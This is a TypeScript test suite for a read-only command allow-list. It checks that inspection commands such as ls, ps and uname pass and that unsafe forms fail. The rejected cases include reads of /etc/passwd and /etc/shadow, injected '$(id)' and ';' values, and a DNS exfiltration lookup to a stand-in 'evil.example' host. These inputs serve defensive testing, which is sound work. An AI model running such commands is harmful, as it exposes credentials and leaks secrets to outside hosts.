import fc from 'fast-check'
import { expect, test } from 'vitest'
import { isReadOnly } from './exec-allow-list.ts'

test.each([
  'ls',
  'ls -la /var/log',
  'ls -1AFRSadhilnrtu a.b@c:d+e,f=g-h',
  'ps',
  'ps aux',
  'ps -e',
  'ps -ef',
  'ps -A',
  'ps -o pid,ppid,user,stat,ni,pcpu,pmem,rss,vsz,etime,time,comm',
  'df -hT /data',
  'du -sh /var',
  'du -d 2 /var',
  'du -d 10',
  'du -d 2 -x /var',
  'du --max-depth=1 .',
  'du --max-depth=9999',
  'df',
  'date',
  'date -u',
  'date -R',
  'date -I',
  'date -u +%Y-%m-%dT%H:%M:%S',
  'id',
  'id -u',
  'id -un root',
  'id _apt.2-x',
  'uname -a',
  'uname -snr -m',
  'hostname',
  'hostname -f',
  'hostname -i',
  'hostname -I',
  'hostname -s',
  'hostname -d',
  'uptime',
  'uptime -p',
  'uptime -s',
  'free -m',
  'free -tw',
  'nproc',
  'nproc --all',
  'ss -tlnp',
  'netstat -tulpn',
])('%s only looks', (command) => {
  expect(isReadOnly(command.split(' '))).toBe(true)
})

test.each([
  '',
  'sh -c ls',
  'bash',
  '/bin/ls',
  './ls',
  'LS',
  'cat /etc/passwd',
  'ls ../secret',
  'ls -l ..',
  'ls a/../../b',
  'ls --color=auto',
  'ls a;b',
  'ls $(id)',
  'ps eww',
  'ps aux eww',
  'ps -o pid,args',
  'ps -o',
  'ps -O pid',
  'ps -o pid comm',
  'du --files0-from=/etc/shadow',
  'du -d',
  'du -d x',
  'du -d x1',
  'du -d 1x',
  'du -d 12345',
  'du /var -d',
  'du /var -d x',
  'du --max-depth=',
  'du --max-depth=12345',
  'du ;--max-depth=1',
  'du --exclude-from=x',
  'date -s 2020-01-01',
  'date -f /etc/shadow',
  'date 010100002020',
  'date +%s +%s',
  'id a b',
  'id ..',
  'uname x',
  'uname -a x',
  'hostname x',
  'hostname -F /etc/shadow',
  'hostname -f -i',
  'uptime x',
  'free -s 1',
  'nproc --ignore=1',
  // A resolver carries whatever it is asked for to whoever answers for that name.
  'nslookup web.shop.svc.cluster.local',
  'nslookup -type=A c2VjcmV0.evil.example',
  'getent hosts c2VjcmV0.evil.example',
  'getent passwd root',
  'ss -K',
  'ss -D x',
  'ss -F x',
  'ss -N x',
  'netstat -c',
])('%s is a write', (command) => {
  expect(isReadOnly(command.split(' '))).toBe(false)
})

test.each([
  'ls -l',
  'df -h',
  'du -s',
  'date -u',
  'date +%s',
  'id -u',
  'id root',
  'uname -a',
  'free -m',
  'ss -t',
  'netstat -t',
])('%s is a write with anything before or behind its argument', (command) => {
  const [program = '', arg = ''] = command.split(' ')
  expect(isReadOnly([program, arg])).toBe(true)
  expect(isReadOnly([program, `;${arg}`])).toBe(false)
  expect(isReadOnly([program, `${arg};`])).toBe(false)
  expect(isReadOnly([program, '-'])).toBe(false)
  expect(isReadOnly([program, '-Z'])).toBe(false)
})

test('more than 12 arguments, or one of more than 256 characters, is a write', () => {
  expect(isReadOnly(['ls', ...Array(12).fill('a')])).toBe(true)
  expect(isReadOnly(['ls', ...Array(13).fill('a')])).toBe(false)
  expect(isReadOnly(['ls', 'a'.repeat(256)])).toBe(true)
  expect(isReadOnly(['ls', 'a'.repeat(257)])).toBe(false)
  expect(isReadOnly(['ls', 'a', 'a'.repeat(257)])).toBe(false)
})

const lookingPrograms = 'ls ps df du date id uname hostname uptime free nproc ss netstat'.split(' ')

test('each program of the list looks when nothing is asked of it', () => {
  for (const program of lookingPrograms) expect(isReadOnly([program]), program).toBe(true)
})

test('no words, no look', () => {
  expect(isReadOnly([])).toBe(false)
})

test('whatever the words are, only a bare program of the list without shell characters looks', () => {
  const word = fc.oneof(
    fc.string(),
    fc.constantFrom(...lookingPrograms, '-a', '-la', '/etc', '..', '-c', 'constructor', '__proto__'),
  )
  fc.assert(
    fc.property(fc.array(word, { maxLength: 15 }), (argv) => {
      if (!isReadOnly(argv)) return
      expect(lookingPrograms).toContain(argv[0])
      for (const arg of argv.slice(1)) expect(arg).toMatch(/^[-A-Za-z0-9._/@:+,=%]+$/)
      // What date prints is no path.
      if (argv[0] !== 'date') expect(argv.some((arg) => arg.split('/').includes('..'))).toBe(false)
    }),
    { numRuns: 2_000 },
  )
})
